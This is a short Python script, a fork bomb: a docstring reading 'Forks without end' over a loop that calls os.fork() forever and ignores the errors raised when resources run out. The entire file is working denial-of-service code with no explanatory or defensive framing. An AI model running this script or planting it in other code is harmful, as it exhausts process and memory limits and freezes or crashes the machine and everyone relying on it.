"""Forks without end, in Python."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
